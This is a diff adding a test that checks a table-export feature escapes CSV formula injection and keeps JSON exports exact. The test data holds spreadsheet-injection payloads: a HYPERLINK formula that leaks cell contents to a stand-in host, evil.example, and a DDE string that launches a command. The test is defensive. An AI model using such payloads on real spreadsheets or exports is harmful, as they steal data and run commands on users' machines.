@@ -411,3 +411,31 @@ def test_exports_give_csv_and_json_with_the_tables_name(client_as):
     assert data["rows"] == [{"Variety": "Aron", "Yield": 7.5, "Organic": True, "Soil": None}]
     assert viewer.get(f"/tables/{table.id}/export.xlsx").status_code == 404
     assert viewer.get("/tables/999999").status_code == 404
+
+
+def test_the_csv_export_cannot_run_formulas_and_the_json_export_stays_exact(client_as):
+    """Issue 11 §4: these were written verbatim into /tables/<id>/export.csv."""
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
+    table = catalog.create_table(
+        "Attacks",
+        [{"name": "=Name", "type": "text"}, {"name": "Yield", "type": "number"}],
+        None,
+    )
+    catalog.add_rows(
+        table,
+        [{"=Name": attacks[0], "Yield": "-3"}, {"=Name": attacks[1]}, {"=Name": attacks[2]}],
+        None,
+    )
+    db.session.commit()
+    viewer = client_as("viewer")
+    exported = viewer.get(f"/tables/{table.id}/export.csv").get_data(as_text=True)
+    assert list(csv.reader(io.StringIO(exported))) == [
+        ["'=Name", "Yield"],
+        ["'" + attacks[0], "-3"],
+        ["'" + attacks[1], ""],
+        ["'" + attacks[2], ""],
+    ]
+    data = viewer.get(f"/tables/{table.id}/export.json").get_json()
+    assert [c["name"] for c in data["columns"]] == ["=Name", "Yield"]
+    assert data["rows"][0] == {"=Name": attacks[0], "Yield": -3}
+    assert [r["=Name"] for r in data["rows"]] == attacks
